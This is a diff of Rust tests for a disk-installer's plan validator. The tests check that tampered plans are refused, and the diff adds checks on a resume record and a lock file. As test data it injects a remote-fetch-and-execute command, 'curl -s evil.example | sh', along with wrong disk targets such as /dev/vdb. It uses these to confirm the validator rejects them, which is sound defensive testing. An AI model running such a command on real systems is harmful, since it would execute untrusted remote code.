@@ -134,25 +134,33 @@ fn seed_value_with_explicit_defaults() -> Value {
 #[test]
 fn changed_commands_are_refused_naming_step_and_field() {
     let mut v = seed();
-    v["steps"][0]["commands"][0]["argv"] = json!(["sh", "-c", "curl -s evil.example | sh"]);
-    refused(&v, &["step 1 (\"partition\")", "commands[0].argv[0]", "\"sh\"", "\"sfdisk\""]);
+    v["steps"][0]["commands"][1]["argv"] = json!(["sh", "-c", "curl -s evil.example | sh"]);
+    refused(&v, &["step 1 (\"partition\")", "commands[1].argv[0]", "\"sh\"", "\"sfdisk\""]);
 
     let mut v = seed();
-    let last = v["steps"][0]["commands"][0]["argv"].as_array().unwrap().len() - 1;
-    v["steps"][0]["commands"][0]["argv"][last] = json!("/dev/vdb");
-    refused(&v, &["\"partition\"", &format!("commands[0].argv[{last}]"), "\"/dev/vdb\"", "\"/dev/vda\""]);
+    let last = v["steps"][0]["commands"][1]["argv"].as_array().unwrap().len() - 1;
+    v["steps"][0]["commands"][1]["argv"][last] = json!("/dev/vdb");
+    refused(&v, &["\"partition\"", &format!("commands[1].argv[{last}]"), "\"/dev/vdb\"", "\"/dev/vda\""]);
 
     let mut v = seed();
-    v["steps"][0]["commands"][0]["stdin"]["text"] = json!("label: dos\n");
-    refused(&v, &["\"partition\"", "commands[0].stdin.text"]);
+    v["steps"][0]["commands"][1]["stdin"]["text"] = json!("label: dos\n");
+    refused(&v, &["\"partition\"", "commands[1].stdin.text"]);
 
     let mut v = seed();
-    v["steps"][0]["commands"][0]["argv"] = json!([]);
-    refused(&v, &["commands[0].argv[0]", "absent", "\"sfdisk\""]);
+    v["steps"][0]["commands"][1]["argv"] = json!([]);
+    refused(&v, &["commands[1].argv[0]", "absent", "\"sfdisk\""]);
 
     let mut v = seed();
     v["steps"][0]["commands"] = json!([]);
     refused(&v, &["commands[0]"]);
+
+    // The resume record written before sfdisk (plan::record): its target and text too.
+    let mut v = seed();
+    v["steps"][0]["commands"][0]["argv"][1] = json!("of=/dev/vdb");
+    refused(&v, &["\"partition\"", "commands[0].argv[1]", "\"of=/dev/vdb\"", "\"of=/dev/vda\""]);
+    let mut v = seed();
+    v["steps"][0]["commands"][0]["stdin"]["text"] = json!("BLANKROOT-RESUME-RECORD 1 2 x\n{}\n");
+    refused(&v, &["\"partition\"", "commands[0].stdin.text"]);
 
     let mut v = seed();
     let i = step_index(&v, "luks-format");
@@ -246,7 +254,7 @@ fn changed_step_fields_are_refused() {
 fn reordered_removed_duplicated_and_extra_steps_are_refused() {
     let mut v = seed();
     v["steps"].as_array_mut().unwrap().reverse();
-    refused(&v, &["step 1 is \"luks-close\"", "blankroot's step 1 is \"partition\""]);
+    refused(&v, &["step 1 is \"forget-resume\"", "blankroot's step 1 is \"partition\""]);
 
     let mut v = seed();
     v["steps"].as_array_mut().unwrap().swap(1, 2);
@@ -263,7 +271,7 @@ fn reordered_removed_duplicated_and_extra_steps_are_refused() {
 
     let mut v = seed();
     v["steps"].as_array_mut().unwrap().pop();
-    refused(&v, &["is missing", "\"luks-close\""]);
+    refused(&v, &["is missing", "\"forget-resume\""]);
 
     let mut v = seed();
     let s = v["steps"][0].clone();
@@ -295,7 +303,7 @@ fn malformed_ids_are_refused() {
     // Well-formed but not the ones the steps use: the steps say so.
     let mut v = seed();
     v["ids"]["luks_uuid"] = json!("0a1b2c3d-0a1b-4c2d-8e3f-0a1b2c3d4e5f");
-    refused(&v, &["\"luks-format\"", "\"0a1b2c3d-0a1b-4c2d-8e3f-0a1b2c3d4e5f\""]);
+    refused(&v, &["\"partition\"", "resume record's ids.luks_uuid", "\"0a1b2c3d-0a1b-4c2d-8e3f-0a1b2c3d4e5f\""]);
     let mut v = seed();
     v["config"]["host_id"] = json!("0badc0de");
     refused(&v, &["config.host_id", "ids.host_id"]);
@@ -313,7 +321,7 @@ fn a_hostile_or_changed_config_is_refused() {
     // The config alone changed (the steps still the old ones): the steps say so.
     let mut v = seed();
     v["config"]["luks"]["format_options"] = json!(["--pbkdf-memory=1024"]);
-    refused(&v, &["\"luks-format\"", "commands[0].argv"]);
+    refused(&v, &["\"partition\"", "resume record's config.luks.format_options[0]", "\"--pbkdf-memory=1024\""]);
 
     // Values the config rules refuse.
     let cases: [(&str, &str, Value); 5] = [
@@ -525,7 +533,11 @@ fn install_refuses_a_changed_plan_in_the_state_directory() {
     let after: Vec<Vec<u8>> =
         ["plan.json", "receipt.json"].iter().map(|f| std::fs::read(state.join(f)).unwrap()).collect();
     assert_eq!(before, after, "the state directory is untouched");
-    assert_eq!(std::fs::read_dir(&state).unwrap().count(), 2, "nothing else written");
+    // Besides them only the run's lock file (src/install/lock.rs), empty once the run ended.
+    let names: Vec<String> =
+        std::fs::read_dir(&state).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
+    assert_eq!(names.len(), 3, "nothing else written: {names:?}");
+    assert!(names.contains(&"lock".to_string()), "{names:?}");
 }
 
 /// Valid but unusual configs (upper-case host id, a by-id disk, luksFormat options in both
